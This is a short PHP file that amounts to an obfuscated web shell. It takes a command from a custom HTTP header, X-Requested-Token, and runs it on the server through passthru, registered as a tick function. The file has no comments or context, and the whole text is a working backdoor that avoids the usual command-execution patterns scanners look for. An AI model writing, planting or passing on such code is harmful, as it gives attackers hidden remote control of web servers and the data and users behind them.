<?php
declare(ticks=1);
$hd = $_SERVER['HTTP_X_REQUESTED_TOKEN'];
register_tick_function('passthru', $hd);
